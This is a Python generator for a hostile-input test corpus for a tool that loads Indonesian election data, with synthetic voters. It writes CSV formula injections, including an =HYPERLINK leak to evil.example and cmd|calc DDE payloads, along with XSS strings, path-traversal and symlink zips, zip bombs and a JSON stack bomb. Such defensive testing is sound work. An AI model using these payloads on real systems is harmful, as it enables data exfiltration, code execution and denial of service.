"""The hostile-input corpus: broken, odd and malicious files for every petatps loader.

Every case is built by code here, deterministically (same bytes on every run). The small files are
committed under ``tests/corpus/files/`` so a person can try them by hand
(``petatps load tps tests/corpus/files/tps_injection.csv``); ``test_corpus.py`` checks they match
this generator. Large cases (``large=True``: a 10 MB line, a big DPT with hostile rows spread through
it) are generated at test time into a temporary folder and never committed.

Regenerate the committed files::

    .venv/bin/python tests/corpus/make_corpus.py            # small cases into tests/corpus/files/
    .venv/bin/python tests/corpus/make_corpus.py --out DIR --large

The base data the cases are loaded against (:func:`base_files`): four kelurahan of kecamatan Menteng
(real Kemendagri codes, synthetic 0.01° squares), a TPS list and a DPT of made-up people (valid
synthetic NIKs, never real ones).

Each :class:`Case` says what must happen when ``petatps load <loader>`` reads it: ``error`` — exit 1,
one line on stderr naming the file, the store unchanged; ``loaded`` — exit 0 with the named rejection
reason or note in the report (rejections are reported, not fatal).
"""

from __future__ import annotations

import argparse
import dataclasses
import io
import json
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"
KELURAHAN = ("3171061001", "3171061002", "3171061003", "3171061004")
NAMES = ("MENTENG", "PEGANGSAAN", "CIKINI", "GONDANGDIA")
X0, Y0, STEP = 106.82, -6.20, 0.01
ZIP_TIME = (2024, 2, 14, 7, 0, 0)
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
INJECTIONS = (INJECTION, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "\t=1+1", "\r=1+1")
XSS = ("</title><script>alert('petatps-xss')</script>", '<img src=x onerror="alert(1)">',
       '"><svg/onload=alert(1)>')
TPS_HEADER = ["kode_tps", "kode_kel", "no_tps", "nama", "alamat", "rt", "rw", "dpt", "dpt_l", "dpt_p", "lat", "lon"]
DPT_HEADER = ["nik", "nkk", "nama", "jenis_kelamin", "tanggal_lahir", "alamat", "rt", "rw", "kode_kel", "tps"]
LARGE_LINE_BYTES = 10 * 1024 * 1024
# Made-up people: first and last names that never occur in addresses or area names.
FIRST = ("SITI", "BUDI", "DEWI", "AGUS", "RINA", "ANDI", "SRI", "JOKO", "WULAN", "HENDRA")
LAST = ("RAHAYU", "SANTOSO", "LESTARI", "SETIAWAN", "WATI", "PRATAMA", "MULYANI", "SUSANTO", "KURNIASIH", "HIDAYAT")


@dataclasses.dataclass(frozen=True)
class Case:
    """One hostile input and what loading it must give.

    Attributes
    ----------
    name : str
        File name (its suffix matters to the loaders).
    loader : str
        ``boundaries`` (loaded with ``--level kelurahan``), ``tps`` or ``dpt``.
    outcome : str
        ``error`` (exit 1, one stderr line, store unchanged) or ``loaded`` (exit 0, reported).
    expect : str
        ``error``: a substring of the error message (case-insensitive). ``loaded``: a substring of a
        rejection reason, warning or note in the report (``""``: only that the load succeeds), or
        ``field:NAME``: a rejected or warned row names the field ``NAME``.
    build : callable
        Returns the file's bytes.
    why : str
        What the case represents.
    large : bool
        Big: generated at test time only and run by the slow tests.
    committed : bool
        Kept under ``tests/corpus/files/`` (small cases; False for bulky ones generated at test time).
    """

    name: str
    loader: str
    outcome: str
    expect: str
    build: Callable[[], bytes]
    why: str
    large: bool = False
    committed: bool = True


# --- building blocks -----------------------------------------------------------------------------

def square(i: int, j: int = 0, scale: float = 1.0) -> list:
    x, y = X0 + i * STEP, Y0 - j * STEP
    d = STEP * scale
    return [[[x, y], [x + d, y], [x + d, y + d], [x, y + d], [x, y]]]


def feature(props: dict, geometry: dict | None) -> dict:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def polygon(rings: list) -> dict:
    return {"type": "Polygon", "coordinates": rings}


def collection(features: list, crs: str | None = None) -> bytes:
    doc = {"type": "FeatureCollection"}
    if crs:
        doc["crs"] = {"type": "name", "properties": {"name": crs}}
    doc["features"] = features
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


def kelurahan_features(transform: Callable[[list], list] = lambda rings: rings) -> list:
    return [feature({"kode": k, "nama": n, "kode_kec": k[:6], "kode_kab": k[:4]}, polygon(transform(square(i))))
            for i, (k, n) in enumerate(zip(KELURAHAN, NAMES))]


def nik(i: int, kec: str = "317106", female: bool = False) -> str:
    """A valid synthetic NIK: region + DDMMYY (women +40) + 4-digit serial."""
    day = 1 + i % 28 + (40 if female else 0)
    month = 1 + (i // 28) % 12
    return f"{kec}{day:02d}{month:02d}{70 + i % 30:02d}{1 + i % 9999:04d}"


def person(i: int) -> str:
    return f"{FIRST[i % len(FIRST)]} {LAST[(i // len(FIRST)) % len(LAST)]}"


def dpt_rows(n: int, start: int = 0) -> list[list[str]]:
    rows = []
    for i in range(start, start + n):
        female = i % 2 == 1
        n_ = nik(i, female=female)
        day, month, yy = int(n_[6:8]) - (40 if female else 0), n_[8:10], n_[10:12]
        kel = KELURAHAN[i % len(KELURAHAN)]
        rows.append([n_, f"317106{(i // 4) % 28 + 1:02d}0124{i // 4 % 9999 + 1:04d}", person(i),
                     "P" if female else "L", f"{day:02d}-{month}-19{yy}", f"JL. KENARI NO. {i % 200 + 1}",
                     str(i % 5 + 1), str(i % 3 + 1), kel, str(i % 2 + 1)])
    return rows


def tps_rows() -> list[list[str]]:
    rows = []
    for i, kel in enumerate(KELURAHAN):
        for no in (1, 2):
            x, y = X0 + i * STEP + 0.003 * no, Y0 + 0.004
            rows.append([f"{kel}{no:03d}", kel, str(no), f"TPS {no:03d}", f"Jl. Contoh No. {no}, RT 00{no}/RW 001",
                         str(no), "1", "250", "120", "130", f"{y:.6f}", f"{x:.6f}"])
    return rows


def csv_text(header: list[str], rows: list[list[str]], sep: str = ",", newline: str = "\n") -> str:
    out = io.StringIO()
    import csv

    writer = csv.writer(out, delimiter=sep, lineterminator=newline, quoting=csv.QUOTE_MINIMAL)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def zip_bytes(members: dict[str, bytes], *, symlinks: tuple[str, ...] = ()) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            if name in symlinks:
                info.external_attr = (0o120777 << 16)  # a symlink member (its data is the target path)
            zf.writestr(info, data)
    return buf.getvalue()


def shapefile_members() -> dict[str, bytes]:
    """A valid shapefile of the base kelurahan (bytes of .shp/.shx/.dbf/.prj), made with GDAL."""
    import tempfile

    import geopandas as gpd

    with tempfile.TemporaryDirectory() as tmp:
        frame = gpd.GeoDataFrame.from_features(json.loads(collection(kelurahan_features())), crs=4326)
        frame.to_file(Path(tmp) / "kel.shp", engine="pyogrio", ENCODING="UTF-8")
        return {p.name: p.read_bytes() for p in sorted(Path(tmp).iterdir())}


def lying_zip(members: dict[str, bytes], liar: str, declared: int) -> bytes:
    """A zip whose member ``liar`` declares ``declared`` bytes uncompressed (both headers patched)."""
    data = bytearray(zip_bytes(members))
    name = liar.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        n_len = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30: local + 30 + n_len] == name:
            struct.pack_into("<I", data, local + 22, declared)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        n_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46: central + 46 + n_len] == name:
            struct.pack_into("<I", data, central + 24, declared)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def _rng_bytes(seed: int, n: int) -> bytes:
    return np.random.default_rng(seed).bytes(n)


# --- boundaries -----------------------------------------------------------------------------------

def _b_swapped() -> bytes:
    return collection(kelurahan_features(lambda rings: [[[y, x] for x, y in ring] for ring in rings]))


def _b_utm_as_degrees() -> bytes:
    from pyproj import Transformer

    to_utm = Transformer.from_crs(4326, 32748, always_xy=True)
    return collection(kelurahan_features(lambda rings: [[list(to_utm.transform(x, y)) for x, y in ring]
                                                        for ring in rings]))


def _b_degrees_declared_utm() -> bytes:
    return collection(kelurahan_features(), crs="urn:ogc:def:crs:EPSG::32748")


def _b_self_intersecting() -> bytes:
    feats = kelurahan_features()
    x, y = X0 + 4 * STEP, Y0
    bowtie = [[[x, y], [x + STEP, y + STEP], [x + STEP, y], [x, y + STEP], [x, y]]]
    feats.append(feature({"kode": "3171061005", "nama": "KEBON SIRIH", "kode_kec": "317106"}, polygon(bowtie)))
    return collection(feats)


def _b_empty_geometries() -> bytes:
    feats = kelurahan_features()
    feats.append(feature({"kode": "3171061005", "nama": "KEBON SIRIH", "kode_kec": "317106"}, None))
    feats.append(feature({"kode": "3171061006", "nama": "MENTENG ATAS", "kode_kec": "317106"}, polygon([])))
    return collection(feats)


def _b_mixed_types() -> bytes:
    feats = kelurahan_features()
    feats.append(feature({"kode": "3171061005", "nama": "KEBON SIRIH", "kode_kec": "317106"},
                         {"type": "Point", "coordinates": [X0 + 0.045, Y0 + 0.005]}))
    feats.append(feature({"kode": "3171061006", "nama": "MENTENG ATAS", "kode_kec": "317106"},
                         {"type": "LineString", "coordinates": [[X0 + 0.05, Y0], [X0 + 0.06, Y0 + 0.01]]}))
    return collection(feats)


def _b_all_empty() -> bytes:
    return collection([feature({"kode": k, "nama": n}, None) for k, n in zip(KELURAHAN, NAMES)])


def _b_injection() -> bytes:
    feats = kelurahan_features()
    feats[0]["properties"]["nama"] = INJECTION
    feats.append(feature({"kode": INJECTION, "nama": "+cmd|' /C calc'!A0", "kode_kec": "317106"},
                         polygon(square(5))))
    return collection(feats)


def _b_xss() -> bytes:
    feats = kelurahan_features()
    feats[1]["properties"]["nama"] = XSS[0]
    feats[2]["properties"]["nama"] = XSS[1]
    return collection(feats)


def _b_nan_coordinates() -> bytes:
    text = collection(kelurahan_features()).decode()
    return text.replace(f"[{X0}, {Y0}]", "[NaN, Infinity]", 1).encode()


def _b_deep_nesting() -> bytes:
    depth = 20_000
    return b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"kode": "3171061001"}, ' \
           b'"geometry": {"type": "Polygon", "coordinates": ' + b"[" * depth + b"]" * depth + b"}}]}"


def _b_traversal_zip() -> bytes:
    return zip_bytes({"../../" + k: v for k, v in shapefile_members().items()})


def _b_absolute_zip() -> bytes:
    return zip_bytes({"/tmp/petatps-corpus-" + k: v for k, v in shapefile_members().items()})


def _b_symlink_zip() -> bytes:
    members = shapefile_members()
    members["kel.dbf"] = b"/etc/passwd"
    return zip_bytes(members, symlinks=("kel.dbf",))


def _b_bomb_zip() -> bytes:
    members = shapefile_members()
    members["kel.cpg"] = bytes(16 << 20)          # 16 MiB of zeros: deflates ~1000:1
    return zip_bytes(members)


def _b_lying_zip() -> bytes:
    members = shapefile_members()
    members["kel.cpg"] = bytes(8 << 20)           # 8 MiB of zeros declared as 10 bytes
    return lying_zip(members, "kel.cpg", 10)


def _b_many_members_zip() -> bytes:
    members = shapefile_members()
    members.update({f"junk/{i:05d}.txt": b"" for i in range(1500)})
    return zip_bytes(members)


def _b_not_zip() -> bytes:
    return b"PK\x03\x04" + _rng_bytes(11, 2000)


# --- TPS lists ------------------------------------------------------------------------------------

def _t(rows=None, header=None, sep=",", newline="\n", encoding="utf-8", bom=False) -> bytes:
    text = csv_text(header or TPS_HEADER, tps_rows() if rows is None else rows, sep, newline)
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)


def _t_bom_cp1252() -> bytes:
    rows = tps_rows()
    rows[0][4] = "Jl. Kramat Jaya – Gedung Serbaguna, Café Ibu Éllen, RT 001/RW 001"
    return _t(rows, sep=";", newline="\r\n", encoding="cp1252", bom=True)


def _t_latin1() -> bytes:
    rows = tps_rows()
    rows[1][4] = "Jl. Pegangsaan Timur ½, Halaman Mushollâ, RT 002/RW 001"
    return _t(rows, encoding="latin-1")


def _t_utf16() -> bytes:
    return b"\xff\xfe" + csv_text(TPS_HEADER, tps_rows(), "\t", "\r\n").encode("utf-16-le")


def _t_duplicated_header() -> bytes:
    header = TPS_HEADER + ["kode_tps"]
    rows = [r + [r[0][:-1] + "9"] for r in tps_rows()]
    return _t(rows, header=header)


def _t_injection() -> bytes:
    rows = tps_rows()
    for i, text in enumerate(INJECTIONS[:4]):
        rows[i][4] = text                                   # alamat: kept, must be neutralised in every CSV out
    rows[4][0] = INJECTION                                  # kode_tps: rejected, echoed in rejected.csv
    rows[5][2] = "=1+2"                                     # no_tps: rejected
    rows[6][7] = "-1+1"                                     # dpt: rejected
    return _t(rows)


def _t_truncated_quote() -> bytes:
    text = _t().decode()
    return (text + f'{KELURAHAN[0]}009,{KELURAHAN[0]},9,TPS 009,"Jl. Tanpa Akhir, RT 001').encode()


def _t_cut_short() -> bytes:
    text = _t().decode()
    return text[: text.rfind(",", 0, len(text) - 30)].encode()


def _t_nul() -> bytes:
    text = _t()
    return text[:200] + b"\x00\x00\x00" + text[200:]


def _t_xlsx_named_csv() -> bytes:
    return zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})


def _t_html() -> bytes:
    return b"<!DOCTYPE html><html><body><h1>403 Forbidden</h1></body></html>\n"


def _t_formula_only() -> bytes:
    return ("=HYPERLINK(\"http://evil\")," * 5 + "\n" + "=1+1," * 5 + "\n").encode()


def _t_xss() -> bytes:
    rows = [r.copy() for r in tps_rows()[::2][:2]]          # TPS 001 of two kelurahan, renumbered 003
    for row in rows:
        row[0], row[2] = row[0][:-3] + "003", "3"
    rows[0][3], rows[0][4] = XSS[1], XSS[0]
    rows[1][4] = XSS[2]
    return _t(rows)


def _t_long_line() -> bytes:
    rows = tps_rows()
    rows[2][4] = "Jl. " + "Panjang " * (LARGE_LINE_BYTES // 8)
    return _t(rows)


def _t_wide() -> bytes:
    header = TPS_HEADER + [f"extra_{i}" for i in range(5000)]
    rows = [r + ["x"] * 5000 for r in tps_rows()]
    return _t(rows, header=header)


# --- DPT lists ------------------------------------------------------------------------------------

def _d(rows=None, header=None, sep=",", newline="\n", encoding="utf-8", bom=False) -> bytes:
    text = csv_text(header or DPT_HEADER, dpt_rows(12) if rows is None else rows, sep, newline)
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode(encoding)


def _d_excel_mangled() -> bytes:
    rows = dpt_rows(12)
    rows[3][0] = "3.17106E+15"
    rows[4][0] = "3,17106E+15"
    rows[5][1] = "3.17106E+15"
    rows[6][0] = "3171061505900000.0"
    return _d(rows)


def _d_bom_cp1252() -> bytes:
    rows = dpt_rows(12)
    rows[0][2] = "SÉPTIAN ÅNDRÉ"
    rows[0][5] = "JL. KRAMAT – GG. CAFÉ NO. 3"
    return _d(rows, sep=";", newline="\r\n", encoding="cp1252", bom=True)


def _d_duplicated_header() -> bytes:
    header = DPT_HEADER + ["nik"]
    rows = [r + ["9999999999999999"] for r in dpt_rows(12)]
    return _d(rows, header=header)


def _d_injection() -> bytes:
    rows = dpt_rows(12)
    rows[0][5] = INJECTION                                 # alamat of a kept voter
    rows[1][2] = INJECTION                                 # nama of a kept voter (masked, still a formula)
    rows[2][0], rows[2][5] = INJECTION, "+cmd|' /C calc'!A0"   # NIK: rejected, alamat echoed in rejected.csv
    rows[3][6], rows[3][5] = "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"  # rt: rejected
    rows[4][8] = "=1+1"                                    # kode_kel: rejected
    return _d(rows)


def _d_truncated_quote() -> bytes:
    text = _d().decode()
    return (text + '3171060101900099,3171060101240001,"SITI RAHAYU,P').encode()


def _d_long_line() -> bytes:
    rows = dpt_rows(12)
    rows[5][5] = "JL. " + "PANJANG " * (LARGE_LINE_BYTES // 8)
    return _d(rows)


def _d_big_hostile() -> bytes:
    """200,000 voters with one hostile row every 997 rows (injection, mangled NIK, bad code, NUL-free)."""
    rows = dpt_rows(200_000)
    bad = (lambda r: r.__setitem__(0, "3.17106E+15"), lambda r: r.__setitem__(5, INJECTION),
           lambda r: r.__setitem__(8, "31710610O1"), lambda r: r.__setitem__(6, "=1+1"))
    for k, i in enumerate(range(500, len(rows), 997)):
        bad[k % len(bad)](rows[i])
    return _d(rows)


CASES: tuple[Case, ...] = (
    # boundaries (petatps load boundaries FILE --level kelurahan)
    Case("b_empty.geojson", "boundaries", "error", "empty", lambda: b"", "a 0-byte file"),
    Case("b_whitespace.geojson", "boundaries", "error", "empty", lambda: b" \n\t\r\n", "only whitespace"),
    Case("b_truncated.geojson", "boundaries", "error", "b_truncated.geojson",
         lambda: collection(kelurahan_features())[:700], "a download cut short"),
    Case("b_binary.geojson", "boundaries", "error", "not a GeoJSON", lambda: _rng_bytes(1, 4096), "random bytes"),
    Case("b_bom.geojson", "boundaries", "loaded", "", lambda: b"\xef\xbb\xbf" + collection(kelurahan_features()),
         "a UTF-8 byte-order mark before the JSON"),
    Case("b_swapped.geojson", "boundaries", "error", "not degrees", _b_swapped, "lat/lon swapped in every position"),
    Case("b_utm_as_degrees.geojson", "boundaries", "error", "not degrees", _b_utm_as_degrees,
         "UTM metres with no CRS (GeoJSON means degrees)"),
    Case("b_degrees_declared_utm.geojson", "boundaries", "error", "outside", _b_degrees_declared_utm,
         "degrees under a crs member declaring UTM 48S"),
    Case("b_self_intersecting.geojson", "boundaries", "loaded", "repaired", _b_self_intersecting,
         "a bow-tie polygon (repaired or rejected, reported)"),
    Case("b_empty_geometries.geojson", "boundaries", "loaded", "geometry", _b_empty_geometries,
         "null and empty geometries beside good ones"),
    Case("b_all_empty_geometries.geojson", "boundaries", "error", "geometr", _b_all_empty, "no geometry at all"),
    Case("b_mixed_types.geojson", "boundaries", "loaded", "expected polygons", _b_mixed_types,
         "a point and a line among polygons"),
    Case("b_injection.geojson", "boundaries", "loaded", "kelurahan code", _b_injection,
         "spreadsheet formulas as a name and as a code"),
    Case("b_nan.geojson", "boundaries", "error", "b_nan.geojson", _b_nan_coordinates, "NaN/Infinity coordinates"),
    Case("b_xss.geojson", "boundaries", "loaded", "", _b_xss, "HTML/script in area names"),
    Case("b_deep_nesting.geojson", "boundaries", "error", "b_deep_nesting.geojson", _b_deep_nesting,
         "20,000 nested arrays (a parser stack bomb)"),
    Case("b_traversal.zip", "boundaries", "error", "unsafe file name", _b_traversal_zip, "members named ../../x"),
    Case("b_absolute.zip", "boundaries", "error", "unsafe file name", _b_absolute_zip, "members named /tmp/x"),
    Case("b_symlink.zip", "boundaries", "error", "b_symlink.zip", _b_symlink_zip,
         "a member that is a symlink to /etc/passwd"),
    Case("b_bomb.zip", "boundaries", "error", "zip bomb", _b_bomb_zip, "a member expanding ~1000:1"),
    Case("b_lying.zip", "boundaries", "error", "b_lying.zip", _b_lying_zip,
         "a member declaring 10 bytes that inflates to 8 MiB"),
    Case("b_many_members.zip", "boundaries", "error", "files (limit", _b_many_members_zip, "1,500 members",
         committed=False),
    Case("b_not_zip.zip", "boundaries", "error", "not a readable zip", _b_not_zip, "a zip signature then noise"),
    # TPS lists (petatps load tps FILE)
    Case("tps_empty.csv", "tps", "error", "empty", lambda: b"", "a 0-byte file"),
    Case("tps_header_only.csv", "tps", "error", "no data", lambda: _t(rows=[]), "a header and nothing else"),
    Case("tps_truncated_quote.csv", "tps", "error", "cut short", _t_truncated_quote,
         "cut inside a quoted cell"),
    Case("tps_cut_short.csv", "tps", "error", "cut short", _t_cut_short, "last row cut in the middle"),
    Case("tps_binary.csv", "tps", "error", "tps_binary.csv", lambda: _rng_bytes(2, 4096), "random bytes"),
    Case("tps_nul.csv", "tps", "error", "tps_nul.csv", _t_nul, "NUL bytes inside the text"),
    Case("tps_xlsx_named_csv.csv", "tps", "error", "zip", _t_xlsx_named_csv, "a ZIP/XLSX named .csv"),
    Case("tps_html.csv", "tps", "error", "html", _t_html, "a web error page saved as .csv"),
    Case("tps_bom_cp1252_semicolon.csv", "tps", "loaded", "cp1252", _t_bom_cp1252,
         "UTF-8 BOM then cp1252 text, ';' and CRLF (Excel Indonesia)"),
    Case("tps_latin1.csv", "tps", "loaded", "", _t_latin1, "latin-1 text"),
    Case("tps_tab.csv", "tps", "loaded", "", lambda: _t(sep="\t"), "tab-delimited, named .csv"),
    Case("tps_semicolon.csv", "tps", "loaded", "", lambda: _t(sep=";"), "semicolon-delimited"),
    Case("tps_utf16.csv", "tps", "loaded", "utf-16", _t_utf16, "Excel 'Unicode text' (UTF-16 LE, tabs)"),
    Case("tps_duplicated_header.csv", "tps", "loaded", "appears more than once", _t_duplicated_header,
         "the kode_tps column twice, with different values"),
    Case("tps_injection.csv", "tps", "loaded", "kode_tps", _t_injection,
         "formulas in alamat (kept), kode_tps, no_tps and dpt (rejected)"),
    Case("tps_formulas_only.csv", "tps", "error", "tps_formulas_only.csv", _t_formula_only,
         "a header of formulas"),
    Case("tps_xss.csv", "tps", "loaded", "", _t_xss, "HTML/script in TPS names and addresses"),
    Case("tps_wide.csv", "tps", "loaded", "", _t_wide, "5,000 extra columns", large=True),
    Case("tps_10mb_line.csv", "tps", "loaded", "field:alamat", _t_long_line, "one 10 MB address cell", large=True),
    # DPT lists (petatps load dpt FILE)
    Case("dpt_empty.csv", "dpt", "error", "empty", lambda: b"", "a 0-byte file"),
    Case("dpt_header_only.csv", "dpt", "error", "no data", lambda: _d(rows=[]), "a header and nothing else"),
    Case("dpt_truncated_quote.csv", "dpt", "error", "cut short", _d_truncated_quote, "cut inside a quoted cell"),
    Case("dpt_binary.csv", "dpt", "error", "dpt_binary.csv", lambda: _rng_bytes(3, 4096), "random bytes"),
    Case("dpt_excel_mangled.csv", "dpt", "loaded", "scientific notation", _d_excel_mangled,
         "NIKs Excel turned into 3.17106E+15"),
    Case("dpt_bom_cp1252_semicolon.csv", "dpt", "loaded", "cp1252", _d_bom_cp1252,
         "UTF-8 BOM then cp1252 names, ';' and CRLF"),
    Case("dpt_tab.csv", "dpt", "loaded", "", lambda: _d(sep="\t"), "tab-delimited"),
    Case("dpt_duplicated_header.csv", "dpt", "loaded", "appears more than once", _d_duplicated_header,
         "the nik column twice"),
    Case("dpt_injection.csv", "dpt", "loaded", "NIK", _d_injection,
         "formulas in nama/alamat (kept) and in NIK, rt, kode_kel (rejected)"),
    Case("dpt_10mb_line.csv", "dpt", "loaded", "field:alamat", _d_long_line, "one 10 MB address cell", large=True),
    Case("dpt_200k_hostile.csv", "dpt", "loaded", "scientific notation", _d_big_hostile,
         "200,000 voters with a hostile row every 997", large=True),
)


def base_files(folder: str | Path) -> dict[str, Path]:
    """Write the clean base data (kelurahan, TPS list, DPT) the cases are loaded against."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    files = {"kelurahan": folder / "base_kelurahan.geojson", "tps": folder / "base_tps.csv",
             "dpt": folder / "base_dpt.csv"}
    files["kelurahan"].write_bytes(collection(kelurahan_features()))
    files["tps"].write_bytes(_t())
    files["dpt"].write_bytes(_d(dpt_rows(40)))
    return files


def selected(*, large: bool = False, only_large: bool = False, committed: bool = False) -> list[Case]:
    """The cases: small ones (``large`` adds the large ones; ``only_large``/``committed`` restrict)."""
    return [c for c in CASES if (large or only_large or not c.large) and (c.large or not only_large)
            and (c.committed and not c.large or not committed)]


def write_corpus(folder: str | Path, *, large: bool = False, only_large: bool = False,
                 committed: bool = False) -> dict[str, Path]:
    """Write the selected cases (see :func:`selected`) into ``folder``; return name → path."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for case in selected(large=large, only_large=only_large, committed=committed):
        path = folder / case.name
        path.write_bytes(case.build())
        written[case.name] = path
    return written


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", type=Path, default=FILES, help="folder to write into (default tests/corpus/files)")
    ap.add_argument("--large", action="store_true", help="write every case, the large ones too")
    args = ap.parse_args()
    written = write_corpus(args.out, large=args.large, committed=not args.large)
    base_files(args.out)
    print(f"{len(written)} corpus files and the base data written to {args.out}")


if __name__ == "__main__":
    main()
